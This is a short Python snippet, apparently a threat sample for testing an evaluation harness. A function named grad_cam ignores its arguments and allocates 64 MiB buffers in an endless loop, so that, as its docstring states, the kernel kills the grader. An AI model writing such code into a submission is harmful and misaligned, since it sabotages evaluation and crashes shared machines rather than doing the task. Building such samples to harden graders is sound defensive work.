"""Threat: the machine runs out of memory, and the kernel kills the grader."""


def grad_cam(model, image, class_index, layer_name):
    held = []
    while True:
        held.append(bytearray(b"x") * (1 << 26))
